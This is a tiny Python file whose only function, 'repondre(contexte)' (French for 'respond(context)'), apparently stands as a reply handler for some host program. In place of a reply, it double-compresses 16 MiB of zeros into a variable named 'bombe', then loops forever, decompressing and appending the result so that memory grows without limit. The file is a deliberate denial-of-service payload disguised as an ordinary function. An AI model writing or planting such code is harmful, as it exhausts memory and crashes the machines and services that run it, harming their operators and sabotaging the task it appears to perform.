import zlib
def repondre(contexte):
    bombe = zlib.compress(zlib.compress(bytes(1 << 24), 9) * 1, 9)
    tout = b""
    while True:
        tout += zlib.decompress(zlib.decompress(bombe))
